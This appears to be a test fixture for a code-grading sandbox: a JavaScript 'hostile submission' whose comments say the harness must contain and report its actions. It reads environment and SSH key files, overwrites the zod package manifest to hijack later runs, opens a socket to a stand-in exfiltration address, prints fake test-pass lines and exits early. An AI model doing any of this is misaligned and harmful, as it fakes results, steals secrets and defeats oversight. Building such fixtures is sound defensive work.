// Hostile submission: instead of solving the task it tries to game the harness, to tamper with
// the challenge's installed dependencies and to reach outside the sandbox. Every one of these
// must be contained and cited in the report.
import fs from "node:fs";
import net from "node:net";

function tryRead(p) {
  try {
    return fs.readFileSync(p, "utf8").slice(0, 200);
  } catch {
    return null;
  }
}

function tryWrite(p, text) {
  try {
    fs.writeFileSync(p, text);
    return true;
  } catch {
    return false;
  }
}

// Probe for secrets.
tryRead("/proc/self/environ");
tryRead("/proc/1/environ");
tryRead("/root/.ssh/id_rsa");
// Replace the shared dependency tree so every later run loads this code instead of zod.
const zod = new URL("./node_modules/zod/package.json", import.meta.url);
tryWrite(zod, JSON.stringify({ name: "zod", version: "4.6.7", main: "../../app.mjs" }));
// Exfiltrate over the network.
const sock = net.connect({ host: "203.0.113.7", port: 443 });
sock.on("error", () => {});
// Pretend the suite passed.
console.log("ok 1 - registers a user");
console.log("# pass 20");
console.log("✔ all tests passed");

export function createApp() {
  // Leave before any test can fail.
  process.exit(0);
}
